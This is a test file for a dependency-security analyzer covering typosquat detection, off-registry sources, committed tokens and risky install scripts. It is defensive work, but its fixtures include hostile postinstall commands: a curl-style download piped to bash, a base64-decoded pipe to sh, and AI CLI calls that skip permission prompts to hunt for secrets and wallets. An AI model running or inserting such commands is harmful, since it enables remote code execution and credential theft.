import { describe, expect, it } from 'vitest';
import { dependenciesAnalyzer } from '../../../../src/core/analyzers/dependencies/dependencies.js';
import { boundedEditDistance } from '../../../../src/core/analyzers/dependencies/edit-distance.js';
import { findInstalls } from '../../../../src/core/analyzers/dependencies/install-commands.js';
import { parseJson } from '../../../../src/core/formats/jsonc.js';
import { readToml } from '../../../../src/core/formats/toml.js';
import { PopularNameIndex, allowedDistance, npmNameIndex, pypiNameIndex } from '../../../../src/core/analyzers/dependencies/typosquat.js';
import type { ChangedFile } from '../../../../src/core/model.js';
import type { Analyzer, RawFinding, RuleTestCase, ScanData } from '../../../../src/core/rules/types.js';
import { loadScanData } from '../../../../src/io/scan-data.js';
import { describeAnalyzerRules, runAnalyzer } from '../../../helpers/analyzers.js';

const data: ScanData = await loadScanData();

function run(analyzer: Analyzer, c: RuleTestCase): RawFinding[] {
  return runAnalyzer(analyzer, c, { data, partialStatus: 'modified' });
}

const scan = (path: string, code: string, added?: number[]): RawFinding[] =>
  run(dependenciesAnalyzer, added ? { path, code, added } : { path, code });
const ids = (findings: RawFinding[]): string[] => findings.map((f) => f.ruleId);
const lines = (...text: string[]): string => `${text.join('\n')}\n`;

describeAnalyzerRules(dependenciesAnalyzer, { data, partialStatus: 'modified' });

describe('edit distance', () => {
  /** Plain optimal-string-alignment distance, for comparison. */
  function reference(a: string, b: string): number {
    const d: number[][] = Array.from({ length: a.length + 1 }, (_, i) =>
      Array.from({ length: b.length + 1 }, (_, j) => (i === 0 ? j : j === 0 ? i : 0)),
    );
    for (let i = 1; i <= a.length; i++) {
      for (let j = 1; j <= b.length; j++) {
        const cost = a[i - 1] === b[j - 1] ? 0 : 1;
        let v = Math.min(d[i - 1]![j]! + 1, d[i]![j - 1]! + 1, d[i - 1]![j - 1]! + cost);
        if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) v = Math.min(v, d[i - 2]![j - 2]! + 1);
        d[i]![j] = v;
      }
    }
    return d[a.length]![b.length]!;
  }

  it.each([
    ['lodash', 'lodahs', 1],
    ['express', 'expres', 1],
    ['requests', 'reqeusts', 1],
    ['react', 'react', 0],
    ['abc', '', 3],
    ['kitten', 'sitting', 3],
  ])('%s / %s', (a, b, expected) => {
    expect(boundedEditDistance(a, b, 5)).toBe(expected);
  });

  it('agrees with the textbook algorithm and caps at max + 1', () => {
    let seed = 7;
    const random = (): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed / 2147483648;
    };
    const word = (): string => Array.from({ length: Math.floor(random() * 9) }, () => 'abc-'[Math.floor(random() * 4)]).join('');
    for (let k = 0; k < 2000; k++) {
      const a = word();
      const b = word();
      const exact = reference(a, b);
      expect(boundedEditDistance(a, b, 2)).toBe(Math.min(exact, 3));
      expect(boundedEditDistance(a, b, 10)).toBe(exact);
    }
  });
});

describe('typosquat index', () => {
  it.each(['lodahs', 'expres', 'reakt', 'axois', 'types-node', 'lodash-merge', '@type/node'])('flags npm %s', (name) => {
    expect(npmNameIndex(data.popularNpm).closest(name)).not.toBeNull();
  });

  it.each(['react', 'lodash', 'express', '@types/node', 'zzqxvbn-tool', 'billing-service-internal'])('does not flag npm %s', (name) => {
    expect(npmNameIndex(data.popularNpm).closest(name)).toBeNull();
  });

  it.each(['reqeusts', 'python-dateutils', 'numpi', 'djnago', 'pythondateutil'])('flags PyPI %s', (name) => {
    expect(pypiNameIndex(data.popularPypi).closest(name)).not.toBeNull();
  });

  it.each(['requests', 'python-dateutil', 'numpy', 'django', 'qqzzx-internal-lib'])('does not flag PyPI %s', (name) => {
    expect(pypiNameIndex(data.popularPypi).closest(name)).toBeNull();
  });

  it('names the package it resembles, with the closest and most popular first', () => {
    expect(npmNameIndex(data.popularNpm).closest('lodahs')).toMatchObject({ popular: 'lodash', distance: 1, reason: 'edit' });
    expect(npmNameIndex(data.popularNpm).closest('types-node')).toMatchObject({ popular: '@types/node', reason: 'separators' });
    expect(pypiNameIndex(data.popularPypi).closest('reqeusts')).toMatchObject({ popular: 'requests', popularity: 6 });
  });

  it('allows one edit only for short names', () => {
    const index = new PopularNameIndex(new Map([['vue', 1], ['react', 2]]), true);
    expect(index.closest('vux')).toMatchObject({ popular: 'vue', distance: 1 });
    expect(index.closest('vxx')).toBeNull(); // two edits from a three-letter name
    expect(index.closest('raect')).toMatchObject({ popular: 'react', distance: 1 });
    expect(index.closest('reecd')).toMatchObject({ popular: 'react', distance: 2 });
    expect(allowedDistance('vue', 'vuex')).toBe(1);
  });

  it('finds exactly what a full comparison against every popular name finds', () => {
    const names = [...data.popularNpm.keys()];
    const index = npmNameIndex(data.popularNpm);
    let seed = 99;
    const random = (): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed / 2147483648;
    };
    const alphabet = 'abcdefghijklmnopqrstuvwxyz-.';
    const mutate = (s: string): string => {
      const i = Math.floor(random() * (s.length + 1));
      const c = alphabet[Math.floor(random() * alphabet.length)]!;
      switch (Math.floor(random() * 4)) {
        case 0:
          return s.slice(0, i) + c + s.slice(i);
        case 1:
          return s.slice(0, i) + s.slice(i + 1);
        case 2:
          return s.slice(0, i) + c + s.slice(i + 1);
        default:
          return i + 1 < s.length ? s.slice(0, i) + s[i + 1] + s[i] + s.slice(i + 2) : s;
      }
    };
    for (let k = 0; k < 300; k++) {
      let query = names[Math.floor(random() * names.length)]!;
      for (let e = 0, edits = 1 + Math.floor(random() * 2); e < edits; e++) query = mutate(query);
      if (data.popularNpm.has(query)) continue;
      const found = index.closest(query);
      if (found?.reason === 'separators') continue;
      let best = Infinity;
      for (const name of names) {
        const allowed = allowedDistance(query, name);
        const d = boundedEditDistance(query, name, allowed);
        if (d <= allowed) best = Math.min(best, d);
      }
      expect(found?.distance ?? Infinity).toBe(best);
    }
  });

  it('answers thousands of queries a second', () => {
    const index = npmNameIndex(data.popularNpm);
    const names = [...data.popularNpm.keys()].slice(0, 3000);
    const started = performance.now();
    for (const name of names) index.closest(`${name.slice(0, 2)}x${name.slice(3)}`);
    const perSecond = names.length / ((performance.now() - started) / 1000);
    // Typically well above 5,000 a second; the bound leaves room for a busy CI machine.
    expect(perSecond).toBeGreaterThan(1000);
  });

  it('ignores absurdly long names quickly', () => {
    expect(npmNameIndex(data.popularNpm).closest('a'.repeat(1_000_000))).toBeNull();
  });
});

describe('package.json', () => {
  const manifest = lines(
    '{',
    '  "name": "web",',
    '  "scripts": {',
    '    "build": "vite build",',
    '    "prepare": "husky"',
    '  },',
    '  "dependencies": {',
    '    "react": "^18.3.1",',
    '    "expres": "^4.19.2",',
    '    "left-pad": "github:someone/left-pad",',
    '    "util-x": "npm:lodahs@^4"',
    '  },',
    '  "devDependencies": {',
    '    "@types/nodes": "^20.0.0",',
    '    "vitest": "^2.0.0"',
    '  }',
    '}',
  );

  it('reports each problem on the line that adds it', () => {
    const found = scan('package.json', manifest);
    expect(found.map((f) => [f.ruleId, f.line])).toEqual(
      expect.arrayContaining([
        ['dependency.install-script', 5],
        ['dependency.typosquat', 9],
        ['dependency.non-registry-source', 10],
        ['dependency.typosquat', 11],
        ['dependency.typosquat', 14],
      ]),
    );
    expect(found).toHaveLength(5);
    const typo = found.find((f) => f.line === 9)!;
    expect(typo.message).toContain('"expres"');
    expect(typo.message).toContain('"express"');
    expect(typo.message).toMatch(/downloads a month/);
    expect(typo.message).toContain('"expres" is 1 edit from "express"');
    expect(typo.message).toContain('a double letter typed once ("s")');
    expect(typo.message).toContain('not among the 10,000 most downloaded npm packages; added by this change');
    expect(found.find((f) => f.line === 11)!.message).toContain('"lodash"');
    expect(found.find((f) => f.line === 14)!.message).toContain('"@types/node"');
    // Each typosquat finding carries its own confidence: a double letter typed once and swapped
    // letters of widely used packages are two signals; a plural "s" on one is a single one.
    expect(found.filter((f) => f.ruleId === 'dependency.typosquat').map((f) => [f.line, f.confidence])).toEqual([
      [9, 'high'],
      [11, 'high'],
      [14, 'medium'],
    ]);
    expect(found.find((f) => f.ruleId === 'dependency.install-script')!.confidence).toBeUndefined();
  });

  it('checks only the dependency lines the change adds', () => {
    expect(scan('package.json', manifest, [15])).toEqual([]);
    expect(ids(scan('package.json', manifest, [9]))).toEqual(['dependency.typosquat']);
  });

  it('never calls a dependency the base version already had a typosquat: it is not new', () => {
    const head = lines('{', '  "dependencies": {', '    "expres": "^4.19.3",', '    "lodahs": "^4.17.21"', '  }', '}');
    const base = lines('{', '  "devDependencies": {', '    "expres": "^4.19.2"', '  }', '}');
    // A version bump, a move between sections: the line changes, the package does not.
    const found = run(dependenciesAnalyzer, { path: 'package.json', code: head, base });
    expect(found.filter((f) => f.ruleId === 'dependency.typosquat').map((f) => f.line)).toEqual([4]);
    expect(found[0]!.message).toContain('"lodash"');
    // Without the base, both are new.
    expect(scan('package.json', head).filter((f) => f.ruleId === 'dependency.typosquat').map((f) => f.line)).toEqual([3, 4]);
    const requirements = run(dependenciesAnalyzer, { path: 'requirements.txt', code: 'reqeusts==2.32.0\nflask==3.0.0\n', base: 'reqeusts==2.31.0\n' });
    expect(requirements).toEqual([]);
    const pyproject = run(dependenciesAnalyzer, {
      path: 'pyproject.toml',
      code: '[project]\ndependencies = ["reqeusts>=2", "djang0"]\n',
      base: '[project]\ndependencies = ["reqeusts>=1"]\n',
    });
    expect(pyproject.map((f) => f.message)).toEqual([expect.stringContaining('"djang0"')]);
  });

  it('treats a changed install script as new', () => {
    const found = scan('package.json', manifest, [5]);
    expect(ids(found)).toEqual(['dependency.install-script']);
    expect(found[0]!.message).toContain('"prepare"');
  });

  it('raises download-and-run and AI CLI install scripts to critical', () => {
    for (const script of [
      'wget -qO- https://x.example/i | bash',
      'node -e \\"require(\'https\').get(process.env.U)\\"',
      'echo aGVsbG8= | base64 -d | sh',
      'claude --dangerously-skip-permissions -p \\"find secrets\\"',
      'gemini --yolo -p \\"list wallets\\"',
    ]) {
      const code = lines('{', '  "scripts": {', `    "postinstall": "${script}"`, '  }', '}');
      expect(ids(scan('package.json', code)), script).toEqual(['dependency.install-script-download']);
    }
  });

  it('recognizes every non-registry source form', () => {
    for (const spec of [
      'git+ssh://git@github.com/a/b.git',
      'git://github.com/a/b.git',
      'https://example.org/pkg.tgz',
      'file:../vendor/pkg',
      'someone/repo#v1',
      'gitlab:someone/repo',
    ]) {
      const code = lines('{', '  "dependencies": {', `    "pkg": "${spec}"`, '  }', '}');
      expect(ids(scan('package.json', code)), spec).toEqual(['dependency.non-registry-source']);
    }
    for (const spec of ['^1.2.3', 'latest', 'workspace:^', '>=1 <2', '1.x', 'catalog:']) {
      const code = lines('{', '  "dependencies": {', `    "left-pad": "${spec}"`, '  }', '}');
      expect(scan('package.json', code), spec).toEqual([]);
    }
  });

  it('sees both copies of a key the file repeats', () => {
    const code = lines('{', '  "scripts": { "build": "tsc" },', '  "scripts": { "postinstall": "node x.js" }', '}');
    expect(ids(scan('package.json', code))).toEqual(['dependency.install-script']);
  });

  it('turns malformed JSON into a finding, not an exception', () => {
    for (const code of ['{ "dependencies": { "a": "1" ', '{"a": tru}', '["\u0001"]', '{"a":1}}', '', '{"a" "b"}', '[1,]']) {
      const found = scan('package.json', code);
      expect(ids(found), JSON.stringify(code)).toEqual(code === '' ? [] : ['dependency.manifest-parse-error']);
    }
  });

  it('reports a parse error on an unchanged line at the first added line', () => {
    const code = lines('{', '  "name": "x",', '  "version": "1.0.0"', '  "private": true', '}');
    const found = scan('package.json', code, [2]);
    expect(found.map((f) => [f.ruleId, f.line])).toEqual([['dependency.manifest-parse-error', 2]]);
    expect(found[0]!.message).toContain('line 4');
  });

  it('survives deep nesting and huge lines', () => {
    // Nesting no manifest has is reported as unreadable, never a crash.
    const deep = '['.repeat(200_000) + ']'.repeat(200_000);
    expect(ids(scan('package.json', deep))).toEqual(['dependency.manifest-parse-error']);
    expect(scan('package.json', '['.repeat(150) + ']'.repeat(150))).toEqual([]);
    expect(ids(scan('package.json', '{'.repeat(200_000)))).toEqual(['dependency.manifest-parse-error']);
    const longName = `{"dependencies": {"${'a'.repeat(1_000_000)}": "1.0.0"}}`;
    const started = performance.now();
    expect(scan('package.json', longName)).toEqual([]);
    const manyDeps = `{"dependencies": {${Array.from({ length: 50_000 }, (_, i) => `"pkg-${i}": "1"`).join(',')}}}`;
    scan('package.json', manyDeps);
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe('lockfiles', () => {
  it('reports off-registry resolved URLs with the host', () => {
    const code = lines(
      '{',
      '  "lockfileVersion": 3,',
      '  "packages": {',
      '    "node_modules/a": { "version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-x" },',
      '    "node_modules/b": { "version": "1.0.0", "resolved": "http://registry.npmjs.org/b/-/b-1.0.0.tgz", "integrity": "sha512-x" },',
      '    "node_modules/c": { "version": "1.0.0", "resolved": "git+ssh://git@github.com/someone/c.git#abc", "integrity": "sha512-x" },',
      '    "node_modules/d/node_modules/e": { "version": "1.0.0", "resolved": "https://evil.example/e.tgz" },',
      '    "node_modules/@acme/ui": { "resolved": "packages/ui", "link": true },',
      '    "node_modules/shared": { "version": "1.0.0", "resolved": "file:../shared" }',
      '  }',
      '}',
    );
    const found = scan('package-lock.json', code);
    expect(found.map((f) => [f.ruleId, f.line])).toEqual(
      expect.arrayContaining([
        ['dependency.lockfile-off-registry', 5],
        ['dependency.lockfile-off-registry', 6],
        ['dependency.lockfile-off-registry', 7],
      ]),
    );
    expect(found).toHaveLength(3);
    expect(found.find((f) => f.line === 6)!.message).toContain('github.com');
    expect(found.find((f) => f.line === 7)!.message).toContain('"e"');
    expect(found.find((f) => f.line === 7)!.message).toContain('evil.example');
  });

  it('checks lockfile v1 nested dependencies and npm-shrinkwrap.json', () => {
    const code = lines(
      '{',
      '  "lockfileVersion": 1,',
      '  "dependencies": {',
      '    "a": {',
      '      "version": "1.0.0",',
      '      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",',
      '      "dependencies": {',
      '        "b": { "version": "1.0.0", "resolved": "https://registry.npmjs.org/b/-/b-1.0.0.tgz" }',
      '      }',
      '    }',
      '  }',
      '}',
    );
    expect(scan('npm-shrinkwrap.json', code).map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.lockfile-missing-integrity', 6],
      ['dependency.lockfile-missing-integrity', 8],
    ]);
    expect(scan('npm-shrinkwrap.json', code, [4])).toEqual([]);
  });

  it('reads yarn berry resolutions and pnpm git sources', () => {
    const berry = lines(
      '"lodash@npm:^4.17.21":',
      '  version: 4.17.21',
      '  resolution: "lodash@npm:4.17.21"',
      '"tool@https://files.example.org/tool.tgz":',
      '  resolution: "tool@https://files.example.org/tool.tgz"',
    );
    expect(scan('yarn.lock', berry).map((f) => f.line)).toEqual([5]);
    const pnpm = lines('packages:', '  tool@1.0.0:', '    resolution: {commit: 0123abc, repo: https://github.com/someone/tool, type: git}');
    expect(ids(scan('pnpm-lock.yaml', pnpm))).toEqual(['dependency.lockfile-off-registry']);
    const pnpmOk = lines('packages:', '  lodash@4.17.21:', '    resolution: {integrity: sha512-v2kDEe57le}');
    expect(scan('pnpm-lock.yaml', pnpmOk)).toEqual([]);
  });

  it('turns a truncated lockfile into a finding', () => {
    expect(ids(scan('package-lock.json', '{ "packages": { "node_modules/a": {'))).toEqual(['dependency.manifest-parse-error']);
  });
});

describe('registry configuration', () => {
  it('reads scoped registries and literal credentials in .npmrc', () => {
    const code = lines(
      '@acme:registry=https://npm.acme-corp.example/',
      '//npm.acme-corp.example/:_authToken=abcdef0123456789',
      '//registry.npmjs.org/:_authToken=${NPM_TOKEN}',
      'strict-ssl = false',
      '; registry=https://commented.example/',
      '@legacy:registry=http://10.0.0.8:4873/',
    );
    // A scope's own https registry is how private packages are published; over http it is not.
    expect(scan('.npmrc', code).map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.registry-token-committed', 2],
      ['dependency.tls-verification-disabled', 4],
      ['dependency.registry-change', 6],
    ]);
  });

  it('reads pip.conf, uv.toml and index tables by how they are used', () => {
    const pipConf = lines(
      '[global]',
      'index-url = https://pypi.org/simple',
      'extra-index-url =',
      '    https://pkgs.internal.example/simple',
      '    https://ci:s3cretpass@pkgs2.internal.example/simple',
      'trusted-host = pkgs.internal.example',
    );
    expect(scan('config/pip.ini', pipConf).map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.python-index-change', 4],
      ['dependency.registry-token-committed', 5],
      ['dependency.python-index-change', 5],
      ['dependency.python-trusted-host', 6],
    ]);
    const uvToml = lines('index-url = "https://pypi.mirror.example/simple"', '', '[[index]]', 'name = "torch"', 'url = "https://download.pytorch.org/whl/cu121"', 'explicit = true');
    expect(scan('uv.toml', uvToml).map((f) => [f.ruleId, f.line])).toEqual([['dependency.python-index-change', 1]]);
    const poetry = lines('[tool.poetry]', 'name = "x"', '', '[[tool.poetry.source]]', 'name = "corp"', 'url = "https://pypi.corp.example/simple"', 'priority = "primary"', '', '[[tool.poetry.source]]', 'name = "torch"', 'url = "https://download.pytorch.org/whl/cpu"', 'priority = "explicit"');
    const found = scan('pyproject.toml', poetry);
    expect(found.map((f) => [f.ruleId, f.line])).toEqual([['dependency.python-index-change', 6]]);
    expect(found[0]!.message).toContain('replaces the package index');
  });

  it('accepts PyTorch\'s wheel index as the index of an install, not as an extra one', () => {
    const script = lines(
      'pip install torch --index-url https://download.pytorch.org/whl/cpu',
      'pip install torch --extra-index-url https://download.pytorch.org/whl/cpu',
      'pip install torch --index-url http://download.pytorch.org/whl/cpu',
    );
    expect(scan('setup.sh', script).map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.python-index-change', 2],
      ['dependency.python-index-change', 3],
    ]);
  });

  it('reads registry commands and variables in scripts, Dockerfiles and workflows', () => {
    const script = lines(
      'npm config set registry https://npm.mirror.example/',
      'npm config set @acme:registry https://npm.pkg.github.com',
      'yarn config set npmRegistryServer "$REGISTRY"',
      'pip config set global.extra-index-url https://pkgs.internal.example/simple',
      'export UV_DEFAULT_INDEX=https://pypi.mirror.example/simple',
      'echo "$PIP_INDEX_URL"',
    );
    expect(scan('setup.sh', script).map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.registry-change', 1],
      ['dependency.python-index-change', 4],
      ['dependency.python-index-change', 5],
    ]);
    expect(ids(scan('Dockerfile', lines('FROM python:3.12', 'ENV PIP_EXTRA_INDEX_URL https://pkgs.internal.example/simple')))).toEqual(['dependency.python-index-change']);
    expect(ids(scan('.github/workflows/ci.yml', lines('on: push', 'env:', '  NPM_CONFIG_REGISTRY: http://verdaccio.internal:4873', '  PIP_INDEX_URL: ${{ vars.PIP_INDEX }}')))).toEqual([
      'dependency.registry-change',
    ]);
  });

  it('reads classic .yarnrc', () => {
    const code = lines('registry "https://npm.mirror.example/"', 'strict-ssl false', 'ignore-scripts false');
    expect(ids(scan('.yarnrc', code))).toEqual([
      'dependency.registry-change',
      'dependency.tls-verification-disabled',
      'dependency.install-scripts-enabled',
    ]);
  });
});

describe('Python manifests', () => {
  it('checks requirement names, options and direct URLs', () => {
    const code = lines(
      '# service requirements',
      '-r base.txt',
      '--extra-index-url=https://pkgs.internal.example/simple',
      'Django>=5.0',
      'djnago-rest-framework==3.15 ; python_version >= "3.10"',
      'reqeusts[socks]==2.32.3 \\',
      '    --hash=sha256:0123456789abcdef',
      'git+https://github.com/someone/tool.git@v1#egg=tool',
      '-e git+https://github.com/someone/lib.git#egg=lib',
      './local/package',
      'numpy==1.26.4  # pinned',
    );
    const found = scan('requirements/prod.txt', code);
    expect(found.map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.python-index-change', 3],
      ['dependency.typosquat', 5],
      ['dependency.typosquat', 6],
      ['dependency.python-direct-url', 8],
      ['dependency.python-direct-url', 9],
    ]);
    expect(found[2]!.message).toContain('"requests"');
    expect(found[2]!.column).toBe(1);
  });

  it('reads PEP 621, optional, build and Poetry dependencies of pyproject.toml', () => {
    const code = lines(
      '[build-system]',
      'requires = ["setuptools>=68", "wheeel"]',
      '',
      '[project]',
      'name = "billing"',
      'description = """',
      'Billing service. dependencies = ["reqeusts"]',
      '"""',
      'dependencies = [',
      '  "requests>=2.31",',
      '  "pydantc>=2",  # typo',
      ']',
      '',
      '[project.optional-dependencies]',
      'dev = ["pytest>=8", "pytset"]',
      '',
      '[tool.poetry.dependencies]',
      'python = "^3.11"',
      'fastapi = "^0.110"',
      'sqlalchemyy = { version = "^2.0" }',
      '',
      '[tool.poetry.group.dev.dependencies]',
      'blackk = "^24.0"',
      '',
      '[[tool.poetry.source]]',
      'name = "internal"',
      'url = "https://pypi.internal.example/simple"',
    );
    const found = scan('pyproject.toml', code);
    expect(found.map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.typosquat', 2],
      ['dependency.typosquat', 11],
      ['dependency.typosquat', 15],
      ['dependency.typosquat', 20],
      ['dependency.typosquat', 23],
      ['dependency.python-index-change', 27],
    ]);
  });

  it('turns malformed TOML into a finding but keeps what it read before', () => {
    const code = lines('[project]', 'dependencies = ["reqeusts"]', 'name = billing service', '[tool');
    expect(scan('pyproject.toml', code).map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.manifest-parse-error', 3],
      ['dependency.typosquat', 2],
    ]);
    for (const bad of ['a = "unterminated', 'a = [1, 2', 'a = { b = 1', '[[x]', 'x', 'a = """never closed', `a = ${'['.repeat(100_000)}`]) {
      expect(ids(scan('pyproject.toml', bad)), bad.slice(0, 30)).toEqual(['dependency.manifest-parse-error']);
    }
  });

  it('reads uv sources and uv indexes', () => {
    const code = lines(
      '[tool.uv.sources]',
      'acme = { git = "https://github.com/someone/acme", rev = "main" }',
      '',
      '[[tool.uv.index]]',
      'name = "internal"',
      'url = "https://pypi.internal.example/simple"',
      '',
      '[[tool.uv.index]]',
      'url = "https://pypi.org/simple"',
    );
    expect(scan('pyproject.toml', code).map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.python-direct-url', 2],
      ['dependency.python-index-change', 6],
    ]);
  });
});

describe('install commands in scripts, Dockerfiles and workflows', () => {
  it('checks npm, yarn, pnpm, pip and uv installs', () => {
    const code = lines(
      '#!/usr/bin/env bash',
      'set -euo pipefail',
      'npm install --save-dev typescript expres@4 @types/nodee',
      'yarn add lodash reakt',
      'sudo -E pip3 install --upgrade pip reqeusts==2.32.3',
      'python3 -m pip install -r requirements.txt numpi',
      'uv add "djnago>=5"',
      'echo "npm install expres"   # only an echo',
      'npm install "$PKG" ./local-dir https://files.example.org/x.tgz',
      'npx create-next-ap my-app',
    );
    const found = scan('scripts/setup.sh', code);
    expect(found.map((f) => [f.ruleId, f.line, f.column])).toEqual([
      ['dependency.typosquat', 3, 35],
      ['dependency.typosquat', 3, 44],
      ['dependency.typosquat', 4, 17],
      ['dependency.typosquat', 5, 36],
      ['dependency.typosquat', 6, 44],
      ['dependency.typosquat', 7, 8],
      ['dependency.non-registry-source', 9, 32],
      ['dependency.typosquat', 10, 5],
    ]);
  });

  it('follows backslash continuations in Dockerfiles', () => {
    const code = lines(
      'FROM node:20-alpine',
      'RUN apk add --no-cache git \\',
      ' && npm install -g \\',
      '      pnpm \\',
      '      expres \\',
      ' && pip install --index-url https://pypi.mirror.example/simple flask',
    );
    const found = scan('Dockerfile.prod', code);
    expect(found.map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.typosquat', 5],
      ['dependency.python-index-change', 6],
    ]);
    expect(scan('Dockerfile.prod', code, [4])).toEqual([]);
  });

  it('reads run: lines of workflows and action.yml', () => {
    const code = lines(
      'name: ci',
      'on: [push]',
      'jobs:',
      '  build:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - name: pip install the tools',
      '      - run: pip install reqeusts --trusted-host pypi.internal.example',
      '      - run: |',
      '          npm i -g lodahs',
    );
    expect(scan('.github/workflows/ci.yml', code).map((f) => [f.ruleId, f.line])).toEqual([
      ['dependency.typosquat', 8],
      ['dependency.typosquat', 10],
      ['dependency.python-trusted-host', 8],
    ]);
    expect(ids(scan('tools/setup/action.yml', lines('runs:', '  using: composite', '  steps:', '    - run: npm i lodahs', '      shell: bash')))).toEqual([
      'dependency.typosquat',
    ]);
  });

  it('finishes quickly on a hostile 1 MB line', () => {
    const started = performance.now();
    scan('install.sh', `npm install ${'a '.repeat(500_000)}\n`);
    scan('install.sh', `pip install ${'$('.repeat(300_000)}\n`);
    scan('install.sh', `${'\\\n'.repeat(200_000)}npm i x\n`);
    scan('install.sh', `echo ${'"'.repeat(1_000_000)}\n`);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('exposes the installs it found with positions', () => {
    const result = findInstalls(['pip install -e git+https://github.com/a/b.git#egg=b', 'pnpm add @scope/pkg@^1'], () => true);
    expect(result.packages).toEqual([
      expect.objectContaining({ ecosystem: 'pypi', name: null, source: 'git', line: 1, column: 16 }),
      expect.objectContaining({ ecosystem: 'npm', name: '@scope/pkg', source: 'registry', line: 2, column: 10 }),
    ]);
  });
});

describe('go.mod and Cargo.toml', () => {
  it('flags replace directives in a block and on one line', () => {
    const code = lines(
      'module example.com/app',
      '',
      'go 1.22',
      '',
      'require (',
      '\tgithub.com/gin-gonic/gin v1.10.0',
      ')',
      '',
      'replace (',
      '\tgithub.com/gin-gonic/gin v1.10.0 => github.com/gin-gonlc/gin v1.10.0 // fork',
      '\texample.com/lib => ./third_party/lib',
      '\texample.com/pinned => example.com/pinned v1.2.3',
      ')',
      'replace example.com/other => /home/dev/other',
    );
    const found = scan('go.mod', code);
    expect(found.map((f) => f.line)).toEqual([10, 11, 14]);
    expect(found[0]!.message).toContain('github.com/gin-gonlc/gin');
  });

  it('flags git crates in target-specific, patch and workspace tables', () => {
    const code = lines(
      '[workspace.dependencies]',
      'serde = "1"',
      'tokio = { git = "https://github.com/someone/tokio" }',
      '',
      "[target.'cfg(unix)'.dependencies]",
      'nix = { git = "https://github.com/someone/nix", rev = "0123456" }',
      '',
      '[patch.crates-io]',
      'rand = { git = "https://github.com/someone/rand" }',
    );
    expect(scan('Cargo.toml', code).map((f) => f.line)).toEqual([3, 6, 9]);
    expect(ids(scan('Cargo.toml', '[dependencies]\nserde = { version = "1"'))).toEqual(['dependency.manifest-parse-error']);
  });
});

describe('applicability', () => {
  it('skips unrelated, deleted and binary files', () => {
    const file = (path: string, status: ChangedFile['status'] = 'added'): ChangedFile => ({
      path,
      oldPath: null,
      status,
      addedLines: [1],
      deletedLineCount: 0,
      removedAfter: [],
      binary: false,
      oldMode: null,
      newMode: null,
      size: 1,
      unavailable: null,
    });
    expect(dependenciesAnalyzer.appliesTo(file('src/index.ts'))).toBe(false);
    expect(dependenciesAnalyzer.appliesTo(file('docs/package.json.md'))).toBe(false);
    expect(dependenciesAnalyzer.appliesTo(file('package.json', 'deleted'))).toBe(false);
    for (const path of ['apps/web/package.json', 'requirements-dev.txt', 'constraints.txt', 'go.mod', 'Dockerfile', 'ci/build.sh', '.github/workflows/release.yaml']) {
      expect(dependenciesAnalyzer.appliesTo(file(path)), path).toBe(true);
    }
    const input = { file: file('package.json'), text: null, lines: [], added: new Set([1]), data, base: null };
    expect(dependenciesAnalyzer.analyze(input)).toEqual([]);
  });
});

describe('JSON and TOML readers', () => {
  it('keeps the line of every key and value', () => {
    const parsed = parseJson('{\n  "a": {\n    "b": [\n      "x"\n    ]\n  },\n  "c": "\\u00e9\\n"\n}\n', { jsonc: false });
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    const root = parsed.value;
    expect(root.kind === 'object' && root.entries.map((e) => [e.key, e.keyLine])).toEqual([
      ['a', 2],
      ['c', 7],
    ]);
    expect(root.kind === 'object' && root.entries[1]!.value).toEqual({ kind: 'string', line: 7, value: 'é\n' });
  });

  it('reads TOML headers, dotted keys and multi-line arrays', () => {
    const doc = readToml(lines('a.b = 1', '[t."quoted key"]', 'list = [', '  "x",  # c', "  'y',", ']', 'inline = { k = "v" }'));
    expect(doc.error).toBeNull();
    expect(doc.tables.map((t) => [t.path, t.line])).toEqual([
      [[], 1],
      [['t', 'quoted key'], 2],
    ]);
    const list = doc.tables[1]!.assignments[0]!;
    expect(list.value).toMatchObject({ kind: 'array', items: [{ value: 'x', line: 4 }, { value: 'y', line: 5 }] });
  });
});
